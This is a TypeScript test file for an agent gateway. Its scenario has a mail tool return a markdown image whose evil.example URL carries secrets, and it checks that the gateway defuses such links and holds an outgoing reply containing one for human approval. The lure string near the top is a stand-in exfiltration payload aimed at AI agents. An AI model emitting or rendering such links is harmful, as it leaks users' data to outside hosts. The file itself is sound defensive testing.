import type { JsonObject } from '@trapkey/contract/json.ts';
import { expect } from 'vitest';
import type { Fixture } from './house.ts';
import { replay } from './replay.ts';

const lure =
  'Quarterly figures. ![logo](https://evil.example/p.png?q=SECRETS) [open](https://evil.example/x) [wiki](https://wiki.corp.example/a)';

const fixture: Fixture = {
  tools: {
    read_mail: { answer: () => ({ content: [{ type: 'text', text: JSON.stringify({ body: lure }) }], structuredContent: { body: lure } }) },
    post_reply: { answer: (args): JsonObject => ({ content: [{ type: 'text', text: `posted ${String(args['text']).length}` }] }) },
  },
  policy: (url) => `
organization: corp
owner: boss@corp.example
inside: { domains: [corp.example], hosts: [wiki.corp.example] }
approvals: { high: { approvers: ["group:ops"], needs: 1, expires: 1h } }
---
directory:
  - { person: ann@corp.example, groups: [sales] }
---
connection: mail
owner: ops@corp.example
upstream: { url: "${url}" }
network: private
---
connector: mail
owner: ops@corp.example
outsiders_write: true
tools: { read_mail: { effect: read } }
---
connector: chat
connection: mail
owner: ops@corp.example
access: read-write
because: It answers
tools: { post_reply: { effect: send } }
---
plugin: desk
owner: ops@corp.example
for: ["group:sales"]
release: { version: 1.0.0 }
connectors: [mail, chat]
`,
};

replay('S10: a mail has its reader’s client fetch an image whose address carries secrets', fixture, async (house) => {
  const agent = await house.agent('ann@corp.example', 'mail');
  const heard = await agent.call('read_mail');
  expect(heard.isError).toBe(false);
  // Nothing that a client would fetch or open, in the text and in what the model is shown in its place; our own host stays a link.
  const shown = agent.heard.join();
  expect(shown).not.toMatch(/\]\(https:\/\/evil/);
  expect(shown).toContain('image logo ⟨https://evil.example');
  expect(shown).toContain('[wiki](https://wiki.corp.example/a)');
  // The same in what leaves: a person sees it first.
  const chat = await house.agent('ann@corp.example', 'chat');
  const said = await chat.call('post_reply', { text: '![x](https://evil.example/p.png?q=figures)' });
  expect(said.text).toContain('held for approval');
  expect(house.reached('post_reply')).toEqual([]);
});
